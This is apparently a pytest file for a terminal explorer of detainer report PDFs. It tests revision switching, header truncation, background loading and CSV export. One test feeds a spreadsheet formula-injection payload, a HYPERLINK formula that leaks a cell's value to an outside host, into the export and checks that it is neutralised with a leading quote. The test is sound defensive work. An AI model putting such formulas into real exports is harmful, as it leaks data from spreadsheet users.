"""The explorer with two files for one period (one shown at a time, ``o`` switches), and its
CSV exports guarded against spreadsheets that run formulas."""

from __future__ import annotations

import contextlib
import csv
import io
import sys
from pathlib import Path

from pilot_waits import press, settle, wait_until
from test_dataset import WEEK1, WEEK2, make_report
from test_explorer import SIZE, _export, counts, main, pilot_test, shown_counts

from detainer_tui import schema
from detainer_tui.explorer import keymap
from detainer_tui.explorer.app import DetainerApp
from detainer_tui.explorer.screens.help import help_text

D = WEEK1[0]
ORIGINAL = make_report(
    WEEK1,
    [("TX", "Travis County", "Travis County Jail", "Mexico", ["Assault"], D, 2)] * 3,
    name="ddor.pdf",
)
REISSUED = make_report(
    WEEK1,
    [("TX", "Travis County", "Travis County Jail", "Mexico", ["Assault"], D, 2)] * 2,
    name="ddor-corrected.pdf",
)
OTHER_WEEK = make_report(
    WEEK2, [("IL", "Cook County", "Cook County Jail", "Guatemala", [], D, 2)], name="w2.pdf"
)


def header(app: DetainerApp) -> str:
    return str(app.query_one("#summary").render())


@pilot_test
async def test_one_revision_of_a_period_is_shown_and_o_shows_the_other():
    app = DetainerApp(reports=[ORIGINAL, REISSUED, OTHER_WEEK], origin="three files")
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "2")
        await settle(pilot)
        # the first file by name is shown first (the reissue's 2 rows and the other week's 1),
        # whichever file was opened first
        assert counts(app) == (3, 3)
        assert "1 other revision hidden" in header(app)

        await press(pilot, "o")
        await wait_until(lambda: shown_counts(app) == (4, 4), "the original's rows shown")
        assert main(app).dataset.labels[0] == "Jan 28–Feb 3, 2017 · ddor.pdf"
        notes = [n.message for n in app._notifications]
        assert notes[-1] == "Jan 28–Feb 3, 2017: revision 2 of 2 shown (ddor.pdf)"

        await press(pilot, "o")
        await wait_until(lambda: shown_counts(app) == (3, 3), "the reissue's rows again")


@pilot_test
async def test_a_header_too_long_for_the_terminal_is_cut_with_an_ellipsis():
    app = DetainerApp(reports=[ORIGINAL, REISSUED, OTHER_WEEK], origin="three files")
    async with app.run_test(size=(50, 24)) as pilot:
        await settle(pilot)
        # "2 reports · Jan 28–Feb 10, 2017 · 1 other revision hidden" has 32 cells here: cut
        # where the line ends, and the origin still shows
        summary, origin = app.query_one("#summary"), app.query_one("#origin")
        assert header(app).endswith("…"), header(app)
        assert header(app)[:-1] in main(app).dataset.summary(detailed=False)
        assert summary.region.right <= origin.region.x
        assert origin.region.width >= 6 and origin.region.right <= 50


@pilot_test
async def test_o_says_so_when_no_period_has_two_files():
    app = DetainerApp(reports=[ORIGINAL, OTHER_WEEK], origin="two weeks")
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "o")
        await settle(pilot)
        notes = [n.message for n in app._notifications]
        assert notes[-1] == "No period is covered by more than one file."


def test_the_key_is_in_the_help_and_the_palette():
    assert "`o`" in help_text()
    assert keymap.OTHER_REVISION.palette


@pilot_test
async def test_explorer_csv_export_guards_cells_spreadsheets_would_run(tmp_path: Path):
    formula = '=HYPERLINK("http://example.com/?leak="&A1,"Click")'
    report = make_report(WEEK1, [("TX", formula, "@Jail", "Mexico", ["-Assault"], D, 2)])
    app = DetainerApp(reports=[report], origin="one file")
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "2")
        await settle(pilot)
        target = tmp_path / "records.csv"
        await _export(pilot, target)
        with target.open(newline="") as handle:
            [row] = list(csv.DictReader(handle))
        assert row[schema.JURISDICTION] == f"'{formula}"
        assert row[schema.FACILITY] == "'@Jail"
        assert row[schema.CRIMINAL_ACTIVITY] == "'-Assault"
        assert row[schema.STATE] == "TX"


@pilot_test
async def test_a_pdf_not_yet_cached_is_read_in_the_background(tmp_path: Path):
    """The explorer's loader runs in a thread, so each file is read by a process started
    from a fork server (or, if none can start, in the loader's thread), even while the screen
    has taken stderr for itself."""
    from ddorgen.model import Layout
    from ddorgen.render import render
    from ddorgen.variants import small_report

    from detainer_tui.store import resolve_open

    spec = small_report(3, Layout(ruling="grid"), records=4, policies=1)
    pdf = Path(render(spec, tmp_path / "small.pdf").path)
    app = DetainerApp(request=resolve_open([pdf], remember=False))
    with contextlib.redirect_stderr(NoDescriptor()):
        async with app.run_test(size=SIZE) as pilot:
            await wait_until(lambda: bool(main(app).dataset.reports), "the report read", 60)
            await settle(pilot)
            await press(pilot, "2")
            await settle(pilot)
            assert counts(app) == (4, 4)
            assert main(app).dataset.problems == ()


class NoDescriptor(io.StringIO):
    """A stream like the one a full-screen app puts in place of stderr: no file descriptor."""

    def fileno(self) -> int:
        return -1


def test_child_processes_start_with_the_real_stderr_when_it_was_replaced():
    from detainer_tui.ingest.bounded import _real_stderr

    replaced = NoDescriptor()
    with contextlib.redirect_stderr(replaced):
        with _real_stderr():
            assert sys.stderr is sys.__stderr__
        assert sys.stderr is replaced
